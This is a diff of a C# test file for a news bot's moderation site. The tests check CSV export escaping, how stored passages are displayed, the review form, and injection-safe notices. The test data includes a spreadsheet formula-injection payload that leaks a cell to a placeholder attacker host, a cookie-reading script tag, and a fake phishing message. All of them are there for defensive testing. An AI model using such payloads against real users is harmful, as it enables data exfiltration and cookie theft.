@@ -3,6 +3,9 @@ using System.Text.RegularExpressions;
 using KforBot.Log;
 using KforBot.Log.Output;
 using KforBot.Log.Storage;
+using KforBot.Search;
+using Microsoft.Extensions.DependencyInjection;
+using Moq;
 
 namespace KforBot.Tests.Moderation;
 
@@ -41,7 +44,7 @@ public sealed partial class ConversationPagesTests
 
         Assert.Contains("<strong>3</strong> questions today", html);
         Assert.Contains("<strong>33%</strong> refused today", html);
-        Assert.Contains("<strong>1</strong> 👍 up · <strong>1</strong> 👎 down today", html);
+        Assert.Contains("<strong>1</strong> voted up · <strong>1</strong> voted down today", html);
         Assert.Contains("<strong>7</strong> match the filters", html);
     }
 
@@ -72,6 +75,27 @@ public sealed partial class ConversationPagesTests
         var expected = await ExpectedAsync(site, new InteractionFilter(RefusedOnly: true), EntryCsv.Line);
         Assert.Equal([EntryCsv.Header, .. expected], lines);
         Assert.Equal(3, expected.Count);
+    }
+
+    [Fact]
+    public async Task ExportCsv_WritesQuestionsAndNotesThatAFormulaCouldStartAsText()
+    {
+        var at = ModerationSiteHarness.Now.AddHours(-1);
+        await using var site = await ModerationSiteHarness.StartAsync(
+        [
+            Conversations.Refused("f1", at, "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"KFOR\")", "leak") with { Note = "@SUM(A1:A9)" },
+            Conversations.Refused("f2", at.AddMinutes(1), "+1+1", "sum"),
+            Conversations.Refused("f3", at.AddMinutes(2), "-1+1", "sum"),
+        ]);
+        using var client = await site.SignedInClientAsync();
+
+        var csv = await client.GetStringAsync("/export.csv");
+
+        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"KFOR\"\")\",true,", csv, StringComparison.Ordinal);
+        Assert.Contains(",'@SUM(A1:A9),", csv, StringComparison.Ordinal);
+        Assert.Contains(",'+1+1,true,", csv, StringComparison.Ordinal);
+        Assert.Contains(",'-1+1,true,", csv, StringComparison.Ordinal);
+        Assert.DoesNotMatch("(^|,)[=+@-]", csv.Replace("\"", string.Empty, StringComparison.Ordinal));
     }
 
     [Fact]
@@ -111,10 +135,81 @@ public sealed partial class ConversationPagesTests
         var refused = await client.GetStringAsync("/conversations/r1");
 
         Assert.Contains("article <code>us-soldiers</code>, passage #3, score 2.5", answered);
+        Assert.Contains($"<blockquote class=\"passage\">{Conversations.SoldiersText}</blockquote>", answered);
+        Assert.Contains("<a href=\"https://news.example/us-soldiers\" rel=\"noreferrer\">American soldiers in KFOR</a>", answered);
+        Assert.Contains("Example News, 2025-03-01", answered);
+        Assert.Contains("<blockquote class=\"passage\">Rutte visited Camp Film City.</blockquote>", answered);
         Assert.Contains("article <code>rutte-visit</code>, passage #0, score 1.25", answered);
         Assert.Contains("<dd>g7</dd>", answered);
         Assert.Contains("None of my 5 articles mentions “weather”.", refused);
-        Assert.Contains("<dt>Feedback</dt><dd>👎 down</dd>", WebUtility.HtmlDecode(refused));
+        Assert.Contains("<dt>Feedback</dt><dd>voted down</dd>", WebUtility.HtmlDecode(refused));
+    }
+
+    [Fact]
+    public async Task Conversation_LoggedWithoutPassageTexts_ShowsThoseOfTheIndexVersionThatAnswered()
+    {
+        var legacy = Conversations.Answered("old", ModerationSiteHarness.Now.AddHours(-1), "How many US soldiers are in Kosovo?") with
+        {
+            Passages = [new LoggedPassage("us-soldiers", 3, 2.5)],
+        };
+        await using var site = await ModerationSiteHarness.StartAsync([legacy], configure: s => s.AddSingleton(IndexOf("g7")));
+        using var client = await site.SignedInClientAsync();
+
+        var html = await client.GetStringAsync("/conversations/old");
+
+        Assert.Contains("<blockquote class=\"passage\">Passage 3 of us-soldiers as build g7 holds it.</blockquote>", html);
+        Assert.Contains(">American soldiers in KFOR</span>", html);
+    }
+
+    [Fact]
+    public async Task Conversation_LoggedWithoutPassageTexts_SaysSoOnceItsIndexVersionIsGone_RatherThanShowAnotherText()
+    {
+        var legacy = Conversations.Answered("old", ModerationSiteHarness.Now.AddHours(-1), "How many US soldiers are in Kosovo?") with
+        {
+            Passages = [new LoggedPassage("us-soldiers", 3, 2.5)],
+        };
+        await using var site = await ModerationSiteHarness.StartAsync([legacy], configure: s => s.AddSingleton(IndexOf("g8")));
+        using var client = await site.SignedInClientAsync();
+
+        var html = await client.GetStringAsync("/conversations/old");
+
+        Assert.DoesNotContain("as build g8 holds it", html);
+        Assert.Contains("index version g7 that answered is no longer in use: the text the user saw cannot be shown.", html);
+        Assert.Contains("article <code>us-soldiers</code>, passage #3, score 2.5", html);
+    }
+
+    [Fact]
+    public async Task Conversation_RefusalThatShowedPassages_ListsThemAfterTheReasonInFull()
+    {
+        var reason = "None of my 5 articles says how many French soldiers serve in KFOR. These passages come closest; they do not answer it.";
+        var refused = Conversations.Refused("rel", ModerationSiteHarness.Now.AddHours(-1), "How many French soldiers are in KFOR?", "French") with
+        {
+            Reason = reason,
+            Passages = Conversations.Answered("x", ModerationSiteHarness.Now, "x").Passages,
+        };
+        await using var site = await ModerationSiteHarness.StartAsync([refused]);
+        using var client = await site.SignedInClientAsync();
+
+        var html = WebUtility.HtmlDecode(await client.GetStringAsync("/conversations/rel"));
+
+        Assert.Contains($"<blockquote class=\"reason\">{reason}</blockquote>", html);
+        Assert.Contains("Shown with the refusal, 2 related passage(s):", html);
+        Assert.Contains($"<blockquote class=\"passage\">{Conversations.SoldiersText}</blockquote>", html);
+    }
+
+    /// <summary>An index whose build <paramref name="buildId"/> holds passages 0 to 4 of "us-soldiers".</summary>
+    private static IPassageIndex IndexOf(string buildId)
+    {
+        var reader = new Mock<IPassageIndexReader>();
+        reader.Setup(r => r.Summary).Returns(new IndexSummary(buildId, "fingerprint", ModerationSiteHarness.Now, 1, 5, 40));
+        reader.Setup(r => r.Articles).Returns(new Dictionary<string, IndexedArticle>
+        {
+            ["us-soldiers"] = new("us-soldiers", "American soldiers in KFOR", "Example News", null, null, "en"),
+        });
+        reader.Setup(r => r.Passage(It.IsAny<int>())).Returns((int i) => new IndexedPassage(i, "us-soldiers", i, null, $"Passage {i} of us-soldiers as build {buildId} holds it."));
+        var index = new Mock<IPassageIndex>();
+        index.Setup(i => i.OpenReaderAsync(It.IsAny<CancellationToken>())).ReturnsAsync(reader.Object);
+        return index.Object;
     }
 
     [Fact]
@@ -149,6 +244,50 @@ public sealed partial class ConversationPagesTests
     }
 
     [Fact]
+    public async Task Review_CanSetTheStatusBackToNew_AndSaveNoteSaysNoteSaved()
+    {
+        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
+        using var client = await site.SignedInClientAsync();
+        var page = await client.GetStringAsync("/conversations/r2");
+        Assert.Contains("value=\"new\"", page);
+        var token = ModerationSiteHarness.FormToken(page);
+
+        var back = await client.PostAsync("/conversations/r2", Form(token, "new", "Not a gap after all."));
+        var keep = await client.PostAsync("/conversations/r2", Form(token, "keep", "Asked twice."));
+
+        Assert.Equal("/conversations/r2?saved=new", back.Headers.Location!.OriginalString);
+        Assert.Equal("/conversations/r2?saved=note", keep.Headers.Location!.OriginalString);
+        var entry = await site.Get<InteractionQueries>().FindAsync("r2", CancellationToken.None);
+        Assert.Equal((ModerationStatus.New, "Asked twice."), (entry!.Status, entry.Note));
+        Assert.Contains("<p class=\"notice\" role=\"status\">Set back to new.</p>", await client.GetStringAsync("/conversations/r2?saved=new"));
+        var saved = await client.GetStringAsync("/conversations/r2?saved=note");
+        Assert.Contains("<p class=\"notice\" role=\"status\">Note saved.</p>", saved);
+        Assert.DoesNotContain("value=\"new\"", saved);
+    }
+
+    [Theory]
+    [InlineData("Your password expired, call 555-0100")]
+    [InlineData("reviewed.")]
+    [InlineData("")]
+    public async Task SavedNotice_ComesFromAFixedSet_NeverFromTheQueryString(string saved)
+    {
+        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
+        using var client = await site.SignedInClientAsync();
+
+        var html = await client.GetStringAsync("/conversations/r1?saved=" + Uri.EscapeDataString(saved));
+
+        Assert.DoesNotContain("class=\"notice\"", html);
+        Assert.DoesNotContain("555-0100", html);
+    }
+
+    private static FormUrlEncodedContent Form(string token, string status, string note) => new(new Dictionary<string, string>
+    {
+        ["status"] = status,
+        ["note"] = note,
+        ["__RequestVerificationToken"] = token,
+    });
+
+    [Fact]
     public async Task NextUnreviewed_GoesToTheNewestNewConversationOfTheFilter()
     {
         await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
@@ -171,6 +310,23 @@ public sealed partial class ConversationPagesTests
 
         Assert.Matches(@"(?s)<td class=""count"">2</td>\s*<td class=""term"">weather</td>.*<td class=""count"">1</td>\s*<td class=""term"">football</td>", html);
         Assert.Contains("<li>Is the weather good for KFOR patrols?</li>", html);
+    }
+
+    [Fact]
+    public async Task Gaps_KeepNamesWhole_AndListNoNoise()
+    {
+        var at = ModerationSiteHarness.Now.AddHours(-1);
+        await using var site = await ModerationSiteHarness.StartAsync(
+        [
+            Conversations.Refused("k1", at, "What did Albin Kurti say?", "Albin") with { UncoveredTerms = ["Albin", "Kurti"] },
+            Conversations.Refused("s1", at.AddMinutes(1), "<script>document.cookie</script>", "script") with { UncoveredTerms = ["script", "document.cookie"] },
+            Conversations.Refused("d1", at.AddMinutes(2), "1", "1"),
+        ]);
+        using var client = await site.SignedInClientAsync();
+
+        var html = await client.GetStringAsync("/gaps");
+
+        Assert.Equal(["Albin Kurti"], Regex.Matches(html, @"<td class=""term"">([^<]*)</td>").Select(m => m.Groups[1].Value));
     }
 
     private static List<string> LinkedIds(string html) => [.. ConversationLink().Matches(html).Select(m => m.Groups[1].Value)];
